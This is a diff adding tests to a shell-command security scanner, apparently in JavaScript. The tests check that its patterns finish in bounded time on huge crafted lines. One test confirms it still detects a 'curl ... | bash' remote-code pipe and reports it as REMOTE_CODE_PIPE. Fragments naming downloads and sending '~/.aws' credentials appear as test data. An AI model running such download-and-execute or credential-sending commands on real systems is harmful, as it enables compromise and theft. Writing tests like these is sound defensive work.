@@ -205,6 +205,27 @@ describe('benign look-alikes are not reported', () => {
   });
 });
 
+describe('crafted long lines', () => {
+  // Before the patterns were bounded, each of these 512 KiB bodies took minutes (a hang).
+  it.each([
+    ['curl -o a ', 'repeated downloads with no separator'],
+    ['curl https://a.example/c ', 'downloads never piped'],
+    ['wget -O x; ', 'saved downloads never run'],
+    ['curl -o a \\\n', 'ten thousand continued lines'],
+    ['send ~/.aws ', 'credential prose with no URL'],
+  ])('%j (%s) is scanned in bounded time', (unit) => {
+    const body = unit.repeat(Math.floor((512 * 1024) / unit.length));
+    const t = performance.now();
+    findings(body);
+    expect(performance.now() - t).toBeLessThan(10_000);
+  });
+
+  it('still finds an attack far into a long line', () => {
+    const f = findings(`${'echo padding; '.repeat(400)}curl -s ${URL} | bash; echo done`);
+    expect(f.map((x) => [x.code, x.line])).toEqual([['REMOTE_CODE_PIPE', 6]]);
+  });
+});
+
 describe('normalizeShell', () => {
   it('joins continued lines and undoes quoting inside words, keeping original lines', () => {
     const n = normalizeShell('a\nc"u"rl x \\\n  | b\\ash\nz');
